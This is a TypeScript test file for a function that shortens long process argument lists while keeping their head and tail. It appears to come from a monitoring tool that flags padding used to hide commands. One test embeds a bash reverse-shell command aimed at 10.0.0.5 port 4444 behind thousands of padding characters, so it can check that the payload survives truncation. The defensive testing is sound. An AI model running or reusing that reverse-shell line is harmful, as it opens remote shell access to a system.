import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { ARGS_HEAD, ARGS_TAIL, boundArgs, PADDING_NOTE } from '../../src/enrich/args';

describe('boundArgs: a process argument list kept to its head and tail', () => {
  it('keeps short lists as they are (the same array)', () => {
    const a = ['python3', 'manage.py', 'runserver'];
    assert.equal(boundArgs(a), a);
  });

  it('one huge argument keeps its start and its end, and says it hid padding', () => {
    const payload = 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1';
    const a = ['bash', '-c', `${'x'.repeat(9000)}${' '.repeat(17_000)}${payload}`];
    const b = boundArgs(a);
    const joined = b.join(' ');
    assert.ok(joined.length <= ARGS_HEAD + ARGS_TAIL + 100, `bounded (${joined.length})`);
    assert.deepEqual(b.slice(0, 2), ['bash', '-c']);
    assert.ok(b.at(-1)!.endsWith(payload), 'the tail keeps the payload');
    const marker = b.find((x) => x.startsWith('…['))!;
    assert.ok(marker.endsWith(PADDING_NOTE), marker);
    assert.match(marker, /^…\[\d+ characters of 1 argument not kept/);
  });

  it('many arguments: whole arguments on both sides, the cut ones split, no padding claimed for diverse text', () => {
    const a = Array.from({ length: 3000 }, (_, i) => `/app/lib/dep-${i}.jar`);
    const b = boundArgs(a);
    assert.equal(b[0], a[0]);
    assert.equal(b.at(-1), a.at(-1));
    const marker = b.find((x) => x.startsWith('…['))!;
    assert.ok(!marker.endsWith(PADDING_NOTE), marker);
    const kept = b.filter((x) => x !== marker).join(' ');
    assert.ok(kept.length <= ARGS_HEAD + ARGS_TAIL + 1, `${kept.length}`); // +1: the space joining head and tail
    // Every kept argument is an argument of the original or a piece of one at the cut.
    for (const x of b) if (x !== marker) assert.ok(a.some((y) => y.includes(x)), x);
  });
});
